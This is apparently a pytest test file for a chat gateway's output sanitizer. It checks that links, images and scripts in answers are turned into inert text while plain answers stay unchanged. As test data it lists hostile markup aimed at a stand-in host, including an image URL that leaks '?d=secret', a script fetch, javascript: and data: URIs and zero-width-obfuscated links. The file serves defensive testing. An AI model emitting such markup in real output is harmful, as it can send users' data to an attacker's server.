"""Nothing in an answer can fetch anything."""

import pytest

from gateway.chat.output import REMOVED_LINK, clean


@pytest.mark.parametrize(
    "hostile",
    [
        "![x](https://evil.example/p.png?d=secret)",
        "[click](https://evil.example)",
        "[click][1]\n\n[1]: https://evil.example",
        "<img src=https://evil.example/x>",
        "<img src='//evil.example/x'",
        "<script>fetch('https://evil.example')</script>",
        "see https://evil.example/path?q=1",
        "HTTPS://EVIL.EXAMPLE",
        "www.evil.example/x",
        "javascript:alert(1)",
        "data:text/html;base64,PHNjcmlwdD4=",
        "\\\\evil.example\\share",
        "//evil.example/x",
        "ht\u200btps://evil.example",
        "<<b>img src=https://evil.example>",
        "![a]![b](https://evil.example)(https://evil.example)",
        "mailto:a@evil.example",
        "Source:https://evil.example/?d=secret",
        "ms-word:ofe|u|https://evil.example/x.docx",
        "ms-word:ofe|u|evil.example",
        "note:www.evil.example",
        "see:javascript:alert(1)",
        "foo://evil.example/x",
        "(//evil.example/x)",
        "[a\nb](/logout)",
        "![x\ny](/image)",
        "[a\n\nb][ref\nerence]",
        "=https://evil.example",
    ],
)
def test_hostile_markup_becomes_text(hostile: str) -> None:
    cleaned = clean(f"Before {hostile} after").lower()
    for sign in (
        "://",
        "](",
        "<img",
        "<script",
        "javascript:",
        "data:",
        "www.",
        "\\\\",
        "//evil",
        "mailto:",
        "ms-word:",
    ):
        assert sign not in cleaned
    assert "before" in cleaned


@pytest.mark.parametrize(
    "answer",
    [
        "Hotels may cost 140 EUR a night [1]. Ratio 3:4, if a < b and c > d; see section 4.2 [2].",
        "Note: the data: file names and/or paths such as a/b/c.md, at 12:30 [1].",
        "Metadata:yes, profile:none, and either/or [2: not confirmed].",
    ],
)
def test_plain_answers_stay_as_they_are(answer: str) -> None:
    assert clean(answer) == answer


def test_a_removed_link_is_said() -> None:
    assert clean("Go to https://x.example now") == f"Go to {REMOVED_LINK} now"
